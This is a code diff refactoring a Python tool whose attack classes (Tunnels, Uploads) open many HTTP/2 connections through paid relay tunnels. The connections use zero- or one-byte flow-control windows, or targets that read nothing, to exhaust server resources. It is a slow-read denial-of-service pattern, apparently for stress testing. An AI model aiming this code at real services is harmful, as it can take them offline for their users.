@@ -276,18 +276,25 @@ class SlowHeaders(Crowd):
         return connection
 
 
-_FIRST_WINDOW = {"one-byte-window": 1, "zero-window": 0}
-
-
-class Tunnels(Attack):
-    """Paid tunnels to a target that sends without end, which nobody reads, nobody lets send, or a byte at a time."""
+class Paid(Attack):
+    """So many connections, with so many paid tunnels each."""
 
     threads = 1
     count = 20
     each = 25
 
+    def __init__(self, spec: Spec) -> None:
+        super().__init__(spec)
+        self.purse = Purse(Path(spec.servicekey), spec.relay, time.time)
+
+
+_FIRST_WINDOW = {"one-byte-window": 1, "zero-window": 0}
+
+
+class Tunnels(Paid):
+    """To a target that sends without end, which nobody reads, nobody lets send, or a byte at a time."""
+
     def work(self) -> None:
-        purse = Purse(Path(self.spec.servicekey), self.spec.relay, time.time)
         small = self.spec.attack == "one-byte-window"
         window = frames.settings({4: _FIRST_WINDOW.get(self.spec.attack, 2**31 - 1)})
         begin = frames.PREFACE + window + frames.window_update(0, 2**31 - 2**17)
@@ -297,7 +304,7 @@ class Tunnels(Attack):
                 connection = self.connect()
                 connection.sendall(begin)
                 for i in range(1, 2 * self.each, 2):
-                    block = write_fields(purse.request(self.spec.target))
+                    block = write_fields(self.purse.request(self.spec.target))
                     connection.sendall(_headers(i, block, frames.END_HEADERS))
                     self.score.sent += 1
             except OSError:
@@ -322,21 +329,16 @@ class Tunnels(Attack):
             connection.close()
 
 
-class Uploads(Attack):
-    """Paid tunnels to a target that reads nothing, which are sent all that they take."""
-
-    threads = 1
-    count = 20
-    each = 25
+class Uploads(Paid):
+    """To a target that reads nothing, which are sent all that they take."""
 
     def work(self) -> None:
-        purse = Purse(Path(self.spec.servicekey), self.spec.relay, time.time)
         selector = selectors.DefaultSelector()
         handlers: list[Handler] = []
 
         def ready(connection: Connection) -> None:
             for _ in range(self.each):
-                handlers.append(Handler(connection.open(purse.request(self.spec.target))))
+                handlers.append(Handler(connection.open(self.purse.request(self.spec.target))))
                 self.score.sent += 1
 
         for _ in range(self.count):
